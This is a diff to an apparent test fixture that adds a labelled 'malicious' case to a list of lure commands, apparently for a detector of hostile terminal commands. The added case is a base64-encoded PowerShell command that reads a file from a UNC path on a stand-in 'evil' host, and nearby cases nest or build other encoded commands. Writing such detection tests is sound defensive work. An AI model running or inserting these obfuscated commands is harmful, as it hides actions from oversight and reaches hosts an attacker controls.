@@ -657,6 +657,9 @@ def lures() -> list[dict[str, str]]:
              "$bytes = [System.Text.Encoding]::Unicode.GetBytes($command)\n"
              "$encoded = [Convert]::ToBase64String($bytes)\npwsh -EncodedCommand $encoded",
              "malicious", LURE, "windows", UNRELATED_PAGES[3], "terminal"),
+        case("dv-lure-enc-unc-read", "powershell -enc "
+             + "RwBlAHQALQBDAG8AbgB0AGUAbgB0ACAAXABcAGYAaQBsAGUAcwAuAGUAdgBpAGwALgBlAHgAYQBtAHAAbABlAFwAcwBcAHgALgB0AHgAdAA=",
+             "malicious", LURE, "windows", UNRELATED_PAGES[1], "terminal"),
         case("dv-lure-enc-nested",
              "powershell -enc " + "cABvAHcAZQByAHMAaABlAGwAbAAgAC0AZQBuAGMAIABSAHcAQgBsAEEASABRAEEATABRAEIARQBBAEcARQBBAGQAQQBCAGwAQQBBAD0APQA=",
              "flagged", LURE, "windows", "", "unknown"),
